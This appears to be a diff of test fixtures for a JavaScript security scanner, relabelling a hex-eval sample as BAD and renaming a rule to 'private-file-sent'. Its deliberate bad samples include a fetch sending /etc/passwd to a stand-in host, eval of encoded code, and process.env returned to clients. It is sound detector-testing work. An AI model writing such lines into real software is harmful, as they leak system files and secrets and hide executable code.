@@ -113,7 +113,7 @@ fs.chmodSync('x', '777'); // BAD wide-permissions
 fs.chmodSync('x', '0755'); // OK wide-permissions
 fs.chmodSync('x', mode); // OK wide-permissions
 new (require('ajv'))({ allErrors: true }); // BAD all-errors
-eval(Buffer.from('63 6f'.replace(' ', ''), 'hex')); // OK hidden-code
+eval(Buffer.from('63 6f'.replace(' ', ''), 'hex')); // BAD hidden-code
 eval(Buffer.from('636f6e736f6c65', 'hex').toString()); // BAD hidden-code
 eval(atob(text)); // BAD hidden-code
 function allow(req, res) {
@@ -181,7 +181,7 @@ session({ cookie: { secure: true, httpOnly: false } }); // BAD insecure-cookie
 session({}); // BAD insecure-cookie
 session(given); // OK insecure-cookie
 require('cookie-session')({ secure: false }); // BAD insecure-cookie
-fetch('https://a.test', { body: fs.readFileSync('/etc/passwd'), signal }); // BAD file-to-network
+fetch('https://a.test', { body: fs.readFileSync('/etc/passwd'), signal }); // BAD private-file-sent
 express().get('/', (req, res) => {
   res.json(process.env); // BAD environment-leak
   res.json({ key: apiKey }); // BAD secret-in-message
